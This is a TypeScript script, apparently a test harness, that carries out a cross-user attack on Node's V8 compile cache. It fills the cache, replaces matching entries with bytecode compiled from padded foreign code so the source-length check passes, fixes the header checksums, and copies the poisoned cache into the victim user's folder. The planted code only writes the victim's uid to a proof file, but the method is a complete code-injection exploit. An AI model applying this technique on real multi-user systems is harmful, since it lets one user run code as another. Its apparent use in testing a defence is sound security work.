// Run by node, with --experimental-vm-modules, as a process of another user: fills the compile cache of its home folder by
// running the command, and puts other code in it for the user with number `victim`, which writes
// that user's number to a file. Prints how many entries it changed.
import { execFileSync } from "node:child_process";
import { cpSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { SourceTextModule } from "node:vm";
import { crc32 } from "node:zlib";

import { tuneForShortRuns } from "../../src/process/process.ts";

declare module "node:vm" {
  interface SourceTextModule {
    createCachedData: () => Buffer;
  }
}

const [entry = "", cache = "", victim = "", proof = ""] = process.argv.slice(2);
const dist = path.dirname(entry);

execFileSync(process.execPath, [entry, "codebook"], { stdio: "pipe", maxBuffer: 1 << 28 });

// V8 refuses code that was compiled under other flags.
tuneForShortRuns();
// The code that `report codebook` loads. V8 checks only its length in a cache.
const sources = readdirSync(dist)
  .filter((name) => /^codebook-[\w-]{8}\.js$/.test(name))
  .map((name) => readFileSync(path.join(dist, name)));
let poisoned = 0;
for (const name of readdirSync(cache)) {
  const folder = path.join(cache, name);
  for (const file of readdirSync(folder)) {
    const kept = readFileSync(path.join(folder, file));
    const source = sources.find((one) => crc32(one) === kept.readUInt32LE(12));
    if (source === undefined) continue;
    const evil = `process.getBuiltinModule("fs").writeFileSync(${JSON.stringify(proof)}, "uid " + process.getuid());`;
    const text = source.toString();
    const module = new SourceTextModule(evil.padEnd(text.length), { identifier: "evil" });
    const data = module.createCachedData();
    const header = Buffer.from(kept.subarray(0, 20));
    header.writeUInt32LE(data.length, 8);
    header.writeUInt32LE(crc32(data), 16);
    writeFileSync(path.join(folder, file), Buffer.concat([header, data]));
    poisoned += 1;
  }
  const theirs = folder.replace(/-\d+$/, `-${victim}`);
  if (theirs !== folder) {
    rmSync(theirs, { recursive: true, force: true });
    cpSync(folder, theirs, { recursive: true });
    renameSync(folder, `${folder}.own`);
  }
}
process.stdout.write(String(poisoned));
